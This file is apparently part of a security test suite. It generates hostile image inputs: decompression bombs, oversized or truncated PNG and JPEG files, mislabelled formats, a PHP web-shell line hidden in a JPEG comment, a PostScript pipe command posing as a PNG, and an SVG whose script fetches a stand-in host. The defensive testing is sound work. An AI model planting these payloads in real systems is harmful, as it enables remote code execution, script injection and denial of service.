"""Pictures that are larger than they look, damaged, or carry something along."""

import io
import struct
import zlib

from PIL import Image

from tests.security.hostile.corpus import MEGABYTE, hostile

_PNG = b"\x89PNG\r\n\x1a\n"


def chunk(name: bytes, content: bytes) -> bytes:
    check = zlib.crc32(name + content)
    return struct.pack(">I", len(content)) + name + content + struct.pack(">I", check)


def png(width: int, height: int, *more: bytes, pixels: bytes = b"") -> bytes:
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
    return _PNG + head + b"".join(more) + chunk(b"IDAT", zlib.compress(pixels, 9)) + chunk(b"IEND", b"")


def jpeg(**options: object) -> bytes:
    made = io.BytesIO()
    Image.new("RGB", (64, 48), "teal").save(made, "JPEG", **options)
    return made.getvalue()


@hostile("png")
def png_of_900_million_pixels() -> bytes:
    return png(30_000, 30_000, pixels=bytes(30_001 * 3_000))


@hostile("png")
def png_of_more_pixels_than_it_holds() -> bytes:
    return png(4_000, 4_000, pixels=b"\0")


@hostile("png")
def png_of_the_largest_numbers() -> bytes:
    return png(2**31 - 1, 2**31 - 1)


@hostile("png")
def png_without_width() -> bytes:
    return png(0, 10)


@hostile("png")
def png_with_a_text_bomb() -> bytes:
    text = chunk(b"zTXt", b"comment\0\0" + zlib.compress(bytes(200 * MEGABYTE), 9))
    return png(8, 8, text, pixels=bytes(9 * 8))


@hostile("png")
def png_with_a_colour_profile_bomb() -> bytes:
    return png(8, 8, chunk(b"iCCP", b"p\0\0" + zlib.compress(bytes(200 * MEGABYTE), 9)), pixels=bytes(9 * 8))


@hostile("png")
def png_cut_short() -> bytes:
    return png(200, 200, pixels=bytes(201 * 200))[:-40]


@hostile("png")
def png_with_wrong_checks() -> bytes:
    return png(8, 8, pixels=bytes(72)).replace(b"IHDR", b"IHDR"[::-1])


@hostile("png")
def png_that_moves_forever() -> bytes:
    made = io.BytesIO()
    frames = [Image.new("RGB", (4, 4), (shade, 0, 0)) for shade in range(200)]
    frames[0].save(made, "PNG", save_all=True, append_images=frames[1:], duration=1, loop=0)
    return made.getvalue()


@hostile("jpg")
def jpeg_of_the_largest_size() -> bytes:
    content = jpeg()
    frame = content.index(b"\xff\xc0") + 5
    return content[:frame] + struct.pack(">HH", 65_500, 65_500) + content[frame + 4 :]


@hostile("jpg")
def jpeg_cut_short() -> bytes:
    return jpeg()[:300]


@hostile("jpg", is_redrawn=True)
def jpeg_that_tells_where_it_was_taken() -> bytes:
    exif = Image.Exif()
    exif[0x010F] = "SECRET-CAMERA"
    exif.get_ifd(0x8825).update({1: "S", 2: (6.0, 10.0, 30.0), 3: "E", 4: (106.0, 49.0, 36.0)})
    return jpeg(exif=exif, comment=b"<?php system($_GET[0]); ?>")


@hostile("gif", file_name="photo.jpg")
def gif_called_jpeg() -> bytes:
    made = io.BytesIO()
    Image.new("P", (9, 9)).save(made, "GIF")
    return made.getvalue()


@hostile("eps", file_name="photo.png")
def postscript_called_png() -> bytes:
    return b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(%pipe%id) (w) file\n"


@hostile("tiff", file_name="photo.jpg")
def tiff_that_points_at_itself() -> bytes:
    return b"II*\0\x08\0\0\0" + struct.pack("<H", 1) + struct.pack("<HHII", 256, 4, 1, 1) + struct.pack("<I", 8)


@hostile("svg")
def svg_with_script() -> bytes:
    return b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>fetch("//evil.invalid")</script></svg>'
